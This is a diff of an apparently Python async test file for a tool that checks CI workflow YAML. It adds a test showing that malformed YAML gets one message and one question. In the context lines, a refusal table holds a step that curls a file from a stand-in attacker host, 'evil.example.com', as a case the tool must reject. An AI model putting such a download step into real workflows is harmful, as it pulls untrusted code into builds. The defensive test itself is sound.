@@ -78,6 +78,13 @@ async def test_a_refused_key_gets_a_proposal_for_its_line(stage: Stage) -> None:
     assert "`snapshot` is no key of a job" in stage.server.system_and_user()[1]
 
 
+async def test_a_file_that_is_no_yaml_asks_for_nothing(stage: Stage) -> None:
+    known, asked = len(await stage.said()), len(stage.server.questions)
+    await stage.rejected("on: push\njobs: [", Problem(".github/workflows/ci.yml", 2, 7, "the list does not end"))
+    await stage.settled()
+    assert (len(await stage.said()), len(stage.server.questions)) == (known + 1, asked + 1)
+
+
 REFUSED = {
     "bash -n": ('[{"name": "a", "run": "if true; then"}]', "no bash"),
     "a new network name": ('[{"name": "a", "run": "curl -fsSL https://evil.example.com/x -o x"}]', "evil.example.com"),
